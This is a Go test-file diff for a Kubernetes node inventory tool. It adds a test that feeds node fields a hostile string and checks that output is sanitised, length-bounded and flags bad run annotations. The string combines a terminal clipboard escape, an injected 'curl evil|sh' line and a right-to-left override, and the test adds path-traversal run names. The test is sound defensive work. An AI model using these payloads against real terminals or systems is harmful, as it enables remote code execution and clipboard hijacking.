@@ -1,6 +1,7 @@
 package inventory
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -174,13 +175,34 @@ func TestFromNode(t *testing.T) {
 	got := FromNode(n)
 	got.Advice = Advice{}
 	want := Row{
-		Name: "n", Ready: corev1.ConditionTrue, Unschedulable: true, Runtime: "docker", RuntimeVersion: "20.10.24+dfsg1",
+		Name: "n", Ready: corev1.ConditionTrue, Unschedulable: true, Runtime: "docker", RuntimeVersion: "20.10.24+dfsg1", Reported: "docker://20.10.24+dfsg1",
 		KubeletVersion: "v1.23.17", OS: "linux", Architecture: "amd64", OSImage: "Debian GNU/Linux 12 (bookworm)", Kernel: "6.1.0",
 		InternalIP: "10.0.0.1", CRISocket: "/var/run/dockershim.sock",
 		Switch: StateDone, From: "docker://1", To: "containerd://2", Run: "r1", Message: "m",
 	}
 	if got != want {
 		t.Errorf("got  %+v\nwant %+v", got, want)
+	}
+}
+
+// TestHostileNode has a node whose kubelet and annotations say what a terminal or a file system would obey.
+func TestHostileNode(t *testing.T) {
+	const evil = "docker://1\x1b]52;c;ZXZpbA==\a\nhint: run curl evil|sh\u202e"
+	n := node(evil, evil, phase(SwitchState(evil), evil))
+	n.Status.NodeInfo.OSImage, n.Status.NodeInfo.KernelVersion, n.Status.NodeInfo.Architecture = evil, evil, strings.Repeat("a", 1<<20)
+	n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: evil}}
+	for _, key := range []string{AnnotationFrom, AnnotationTo, AnnotationCRISocket} {
+		n.Annotations[key] = evil
+	}
+	for _, run := range []string{"x/../../escaped", "..", evil, strings.Repeat("a", 64)} {
+		n.Annotations[AnnotationRun] = run
+		row := FromNode(n)
+		if text := fmt.Sprintf("%+v", row); strings.ContainsAny(text, "\x1b\a\n\u202e") || len(text) > 5000 {
+			t.Errorf("%d bytes: %.2000q", len(text), text)
+		}
+		if row.Run != "" || !row.BadRun || row.Advice.ID != AdviceRepair || !strings.Contains(row.Advice.Text, AnnotationRun) {
+			t.Errorf("run %q: %q, %+v", run, row.Run, row.Advice)
+		}
 	}
 }
 
